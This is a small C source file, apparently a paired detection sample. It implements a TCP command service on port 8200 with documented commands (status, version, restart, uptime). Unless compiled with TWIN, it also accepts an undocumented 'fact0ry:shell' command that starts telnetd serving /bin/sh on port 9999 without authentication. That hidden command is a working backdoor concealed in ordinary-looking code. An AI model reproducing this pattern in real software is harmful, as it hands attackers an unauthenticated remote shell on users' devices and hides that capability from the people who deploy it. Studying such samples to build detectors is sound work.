/* SPDX-License-Identifier: Apache-2.0 */
/* port 8200/tcp: a chain of documented commands with one that is not. Twin: without that one. */
#include "net.h"

static void answer(int c, const char *text)
{
	write(c, text, strlen(text));
}

static void serve(int c)
{
	char line[128];
	ssize_t n = recv(c, line, sizeof line - 1, 0);
	if (n <= 0)
		return;
	line[n] = 0;
	if (!strcmp(line, "status"))
		answer(c, "up");
	else if (!strcmp(line, "version"))
		answer(c, "3.1");
	else if (!strcmp(line, "restart"))
		system("/etc/init.d/network restart");
	else if (!strcmp(line, "uptime"))
		answer(c, "4711");
#ifndef TWIN
	else if (!strcmp(line, "fact0ry:shell"))
		system("/usr/sbin/telnetd -l /bin/sh -p 9999");
#endif
	else
		answer(c, "commands: status version restart uptime");
}

int main(void)
{
	int s = tcp_on(8200);
	for (;;) {
		int c = accept(s, 0, 0);
		serve(c);
		close(c);
	}
}
